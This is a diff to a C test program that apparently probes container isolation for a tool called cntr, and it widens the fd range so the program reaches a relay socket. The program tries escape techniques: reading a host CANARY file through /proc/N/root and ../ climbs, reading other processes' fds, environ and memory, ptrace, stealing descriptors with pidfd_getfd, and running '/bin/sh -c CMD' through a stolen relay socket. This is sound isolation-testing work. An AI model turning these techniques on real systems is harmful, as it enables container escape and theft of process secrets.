@@ -13,12 +13,13 @@
  *   cwd-read        read CANARY through /proc/N/cwd/../../(...)/CANARY
  *   root-create     create a file in HOSTDIR through /proc/N/root/HOSTDIR/
  *   cwd-create      the same through /proc/N/cwd/../../(...)/HOSTDIR/
- *   fd              list /proc/N/fd and read its links
- *   fd-read         open every /proc/N/fd/K and read it (a directory: list it)
+ *   fd              read the links in /proc/N/fd (listing the numbers alone is no success)
+ *   fd-read         open every /proc/N/fd/K (K < 72) and read it (a directory: list it)
  *   environ, maps   read /proc/N/environ and /proc/N/maps
  *   mem             open /proc/N/mem and read the stack (found through maps)
  *   ptrace          PTRACE_SEIZE (from a child that exits at once: that detaches)
- *   pidfd-getfd     pidfd_open + pidfd_getfd of fds 0..20, reading what it got
+ *   pidfd-getfd     pidfd_open + pidfd_getfd of fds 0..71 (the relay socket is at 64),
+ *                   reading what it got
  *   relay           a stolen SOCK_SEQPACKET socket is used as cntr's exec relay,
  *                   asking for `/bin/sh -c CMD` (with -e)
  *   fd1-write       write MARKER into /proc/N/fd/1 (with -m; never into pid 1's)
@@ -63,6 +64,8 @@
 #define MAX_LIST 8
 #define MAX_PIDS 4096
 #define DETAIL_MAX 16384
+/* fds tried by number: 0..20 and the relay socket cntr puts at 64 and above. */
+#define MAX_FD 72
 
 enum attack {
 	A_ROOT,
@@ -107,6 +110,25 @@ static const char *marker, *relay_cmd;
 static pid_t self;
 /* "../" often enough to climb from any working directory to the top of its mount tree. */
 static const char up[] = "../../../../../../../../../../../../../../../../";
+
+/* What one attack collected over several fds. */
+static char acc[DETAIL_MAX];
+static size_t acc_used;
+
+static void append(const char *fmt, ...)
+{
+	va_list ap;
+	int n;
+
+	if (acc_used >= sizeof(acc) - 1)
+		return;
+	va_start(ap, fmt);
+	n = vsnprintf(acc + acc_used, sizeof(acc) - acc_used, fmt, ap);
+	va_end(ap);
+	if (n > 0)
+		acc_used +=
+			(size_t)n < sizeof(acc) - acc_used ? (size_t)n : sizeof(acc) - 1 - acc_used;
+}
 
 static void on_term(int sig)
 {
@@ -319,10 +341,13 @@ static void attack_fds(struct target *t, const char *comm)
 	struct dirent *e;
 
 	snprintf(dirpath, sizeof(dirpath), "/proc/%d/fd", (int)t->pid);
+	/* Listing the fd numbers is plain DAC on the directory; the links are what counts. */
 	d = opendir(dirpath);
 	if (!d) {
 		failed(t, comm, A_FD, errno);
 	} else {
+		int link_err = ENOENT, links_ok = 0;
+
 		links[0] = 0;
 		while ((e = readdir(d))) {
 			char path[128], target[512];
@@ -334,8 +359,11 @@ static void attack_fds(struct target *t, const char *comm)
 			    (int)sizeof(path))
 				continue;
 			n = readlink(path, target, sizeof(target) - 1);
-			if (n < 0)
+			if (n < 0) {
+				link_err = errno;
 				continue;
+			}
+			links_ok = 1;
 			target[n] = 0;
 			if (used + strlen(e->d_name) + (size_t)n + 4 < sizeof(links))
 				used += (size_t)snprintf(links + used, sizeof(links) - used,
@@ -343,27 +371,29 @@ static void attack_fds(struct target *t, const char *comm)
 		}
 		closedir(d);
 		escape(detail, links, used);
-		succeeded(t, comm, A_FD, detail);
+		if (links_ok)
+			succeeded(t, comm, A_FD, detail);
+		else
+			failed(t, comm, A_FD, link_err);
 	}
 	/* Each fd by number too: the directory may be closed to us while its entries are not. */
-	for (int k = 0; k < 70; k++) {
+	acc_used = 0;
+	for (int k = 0; k < MAX_FD; k++) {
 		char path[128];
 		int err;
 
 		snprintf(path, sizeof(path), "%s/%d", dirpath, k);
 		err = read_path(path, detail, 1024);
 		if (err == 0) {
-			char msg[DETAIL_MAX];
-
-			snprintf(msg, sizeof(msg), "fd %d: %.16000s", k, detail);
-			succeeded(t, comm, A_FD_READ, msg);
+			append("fd %d: %s; ", k, detail);
 			read_ok = 1;
-			break;
-		}
-		if (err != ENOENT && !read_err)
+		} else if (err != ENOENT && !read_err) {
 			read_err = err;
+		}
 	}
-	if (!read_ok)
+	if (read_ok)
+		succeeded(t, comm, A_FD_READ, acc);
+	else
 		failed(t, comm, A_FD_READ, read_err ? read_err : ENOENT);
 }
 
@@ -525,14 +555,16 @@ fail : {
 
 static void attack_pidfd(struct target *t, const char *comm)
 {
-	static char detail[DETAIL_MAX], msg[DETAIL_MAX];
+	static char detail[DETAIL_MAX];
 	int pidfd = (int)syscall(SYS_pidfd_open, t->pid, 0), err = 0;
+	bool got = false;
 
 	if (pidfd < 0) {
 		failed(t, comm, A_PIDFD_GETFD, errno);
 		return;
 	}
-	for (int k = 0; k <= 20; k++) {
+	acc_used = 0;
+	for (int k = 0; k < MAX_FD; k++) {
 		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, k, 0);
 		char path[64], link[512];
 		ssize_t n;
@@ -540,16 +572,18 @@ static void attack_pidfd(struct target *t, const char *comm)
 		socklen_t len = sizeof(type);
 
 		if (fd < 0) {
+			/* EBADF says the fd is not there: the access itself was allowed. */
 			if (!err || err == EBADF)
 				err = errno;
 			continue;
 		}
+		got = true;
 		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
 		n = readlink(path, link, sizeof(link) - 1);
 		link[n > 0 ? n : 0] = 0;
 		detail[0] = 0;
 		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0) {
-			if (type == SOCK_SEQPACKET && relay_cmd) {
+			if (type == SOCK_SEQPACKET && relay_cmd && !(t->ok & (1u << A_RELAY))) {
 				int r = use_relay(fd, detail);
 
 				outcome(t, comm, A_RELAY, r, detail);
@@ -562,14 +596,13 @@ static void attack_pidfd(struct target *t, const char *comm)
 				close(rfd);
 			}
 		}
-		snprintf(msg, sizeof(msg), "fd %d (%s): %.15000s", k, link, detail);
-		succeeded(t, comm, A_PIDFD_GETFD, msg);
+		append("fd %d (%s): %s; ", k, link, detail);
 		close(fd);
-		err = 0;
-		break;
 	}
-	if (err)
-		failed(t, comm, A_PIDFD_GETFD, err);
+	if (got)
+		succeeded(t, comm, A_PIDFD_GETFD, acc);
+	else
+		failed(t, comm, A_PIDFD_GETFD, err ? err : EBADF);
 	close(pidfd);
 }
 
